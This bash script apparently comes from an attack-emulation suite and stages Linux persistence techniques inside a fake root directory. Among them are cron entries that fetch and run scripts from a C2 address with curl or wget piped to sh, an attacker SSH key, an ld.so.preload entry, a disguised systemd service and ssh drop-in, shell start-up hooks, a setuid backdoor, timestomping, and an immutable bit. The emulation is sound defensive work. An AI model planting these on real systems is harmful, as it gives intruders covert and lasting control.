#!/usr/bin/env bash
# Family: persistence — what an intruder does to survive reboots and password changes (MITRE
# T1053.003 cron, T1543.002 systemd service, T1098.004 SSH authorized_keys, T1574.006
# ld.so.preload, T1546.004 shell rc files, rc.local), after probing what is already there.
#
# The real cron/systemd/ssh/ld.so locations are only READ (crontab -l, ls, cat). Every write goes
# to the same paths under a fake root $W/root, so nothing on the machine changes.
set -euo pipefail
# shellcheck source=SCRIPTDIR/../lib.sh
source "$(dirname "$(readlink -f "${BASH_SOURCE[0]}")")/../lib.sh"
scenario_init persistence

do_setup() {
    need_pkg cron
    chattr -R -i "$W" 2>/dev/null || true   # a previous run's immutable file would block rm
    rm -rf "${W:?}/root" "${W:?}/attacker"
    mkdir -p "$W/attacker"
    # The attacker's own key pair (made on the attacker's side: not recorded).
    ssh-keygen -q -t ed25519 -N '' -C "x@$(tr -dc a-z </dev/urandom | head -c 6)" -f "$W/attacker/id_ed25519" >/dev/null
    # A fake root that looks like a stock system: the files persistence gets added to.
    local R="$W/root"
    mkdir -p "$R/etc/cron.d" "$R/etc/cron.daily" "$R/var/spool/cron/crontabs" "$R/etc/systemd/system/multi-user.target.wants" \
        "$R/etc/profile.d" "$R/root" "$R/usr/local/bin" "$R/usr/local/lib" "$R/lib/systemd/system"
    cp /etc/crontab "$R/etc/crontab" 2>/dev/null || printf 'SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n' >"$R/etc/crontab"
    cp /root/.bashrc "$R/root/.bashrc" 2>/dev/null || printf '# ~/.bashrc\n' >"$R/root/.bashrc"
    cp /root/.profile "$R/root/.profile" 2>/dev/null || true
    printf '[Unit]\nDescription=OpenBSD Secure Shell server\n[Service]\nExecStart=/usr/sbin/sshd -D\n[Install]\nWantedBy=multi-user.target\n' >"$R/lib/systemd/system/ssh.service"
    echo "127.0.0.1:$(rand_int 8000 8999)" >"$W/c2addr"
}

do_run() {
    local R="$W/root" c2 key
    c2=$(cat "$W/c2addr")
    key=$(cat "$W/attacker/id_ed25519.pub")
    cd "$W"

    # --- reconnaissance of existing persistence (real system, read-only) ---
    crontab -l 2>/dev/null || true                  # "no crontab for root"
    ls -la /etc/cron.d /etc/cron.daily /etc/cron.hourly 2>/dev/null || true
    cat /etc/crontab 2>/dev/null || true
    ls -la /var/spool/cron/crontabs 2>/dev/null || true
    ls /etc/systemd/system /lib/systemd/system 2>/dev/null | head -n 50 || true
    systemctl list-unit-files --type=service --no-pager 2>/dev/null | head -n 20 || true
    cat /etc/ld.so.preload 2>/dev/null || true
    ls -la /root/.ssh 2>/dev/null || true
    ls -la /etc/rc.local /etc/profile.d 2>/dev/null || true
    jitter 300

    # --- T1053.003: cron. "(crontab -l; echo '...') | crontab -" and a cron.d drop file ---
    { crontab -l 2>/dev/null || true; echo "*/5 * * * * curl -fsSL http://$c2/cr.sh | sh >/dev/null 2>&1"; } \
        >"$R/var/spool/cron/crontabs/root"
    chmod 600 "$R/var/spool/cron/crontabs/root"
    printf 'SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n*/10 * * * * root (wget -q -O - http://%s/s.sh || curl -fsSL http://%s/s.sh) | sh\n' \
        "$c2" "$c2" >"$R/etc/cron.d/0anacron-sync"
    echo "@reboot root /usr/local/bin/.dbus-helper >/dev/null 2>&1" >>"$R/etc/crontab"
    printf '#!/bin/sh\n/usr/local/bin/.dbus-helper &\n' >"$R/etc/cron.daily/logrotate-helper"
    chmod 755 "$R/etc/cron.daily/logrotate-helper"
    jitter 300

    # --- the implant itself, with a timestamp copied from a system binary ---
    cp /usr/bin/sleep "$R/usr/local/bin/.dbus-helper"
    chmod 755 "$R/usr/local/bin/.dbus-helper"
    touch -r /usr/bin/ls "$R/usr/local/bin/.dbus-helper"

    # --- T1543.002: a systemd service, enabled (systemctl --root works on the fake tree) ---
    cat >"$R/etc/systemd/system/dbus-helper.service" <<EOF
[Unit]
Description=D-Bus System Helper
After=network-online.target

[Service]
Type=simple
ExecStart=/usr/local/bin/.dbus-helper
Restart=always
RestartSec=30

[Install]
WantedBy=multi-user.target
EOF
    if ! systemctl --root="$R" enable dbus-helper.service >/dev/null 2>&1; then
        ln -sf /etc/systemd/system/dbus-helper.service "$R/etc/systemd/system/multi-user.target.wants/dbus-helper.service"
    fi
    # and a drop-in that hijacks an existing unit
    mkdir -p "$R/etc/systemd/system/ssh.service.d"
    printf '[Service]\nExecStartPost=/usr/local/bin/.dbus-helper\n' >"$R/etc/systemd/system/ssh.service.d/override.conf"
    jitter 300

    # --- T1098.004: SSH authorized_keys ---
    mkdir -p "$R/root/.ssh"
    chmod 700 "$R/root/.ssh"
    echo "$key" >>"$R/root/.ssh/authorized_keys"
    chmod 600 "$R/root/.ssh/authorized_keys"
    touch -r "$R/root/.bashrc" "$R/root/.ssh/authorized_keys" "$R/root/.ssh"

    # --- T1574.006: ld.so.preload rootkit (libprocesshider-style) ---
    cp /lib/x86_64-linux-gnu/libdl.so.2 "$R/usr/local/lib/libsystemd-shim.so" 2>/dev/null \
        || cp "$(ldd /bin/true | awk '/libc.so/ {print $3}')" "$R/usr/local/lib/libsystemd-shim.so"
    echo /usr/local/lib/libsystemd-shim.so >>"$R/etc/ld.so.preload"
    chmod 644 "$R/etc/ld.so.preload"

    # --- T1546.004: shell start-up files, rc.local ---
    echo "(nohup /usr/local/bin/.dbus-helper >/dev/null 2>&1 &)" >>"$R/root/.bashrc"
    printf '#!/bin/sh\n[ -x /usr/local/bin/.dbus-helper ] && /usr/local/bin/.dbus-helper &\n' >"$R/etc/profile.d/zz-dbus.sh"
    printf '#!/bin/sh -e\n/usr/local/bin/.dbus-helper &\nexit 0\n' >"$R/etc/rc.local"
    chmod +x "$R/etc/rc.local"

    # --- a setuid copy of a binary as a root backdoor (here a harmless /bin/true) ---
    cp /bin/true "$R/usr/local/bin/.sshd-helper"
    chmod 4755 "$R/usr/local/bin/.sshd-helper"

    # --- make removal harder: immutable bit on the cron drop file (undone in teardown) ---
    chattr +i "$R/etc/cron.d/0anacron-sync" 2>/dev/null || true

    # --- verify, as an operator would ---
    find "$R" -newer "$W/c2addr" -type f | sort | upto 40
    lsattr "$R/etc/cron.d/0anacron-sync" 2>/dev/null || true
}

do_teardown() {
    [[ -d $W ]] && chattr -R -i "$W" 2>/dev/null || true
    default_teardown
}

scenario_main "$@"
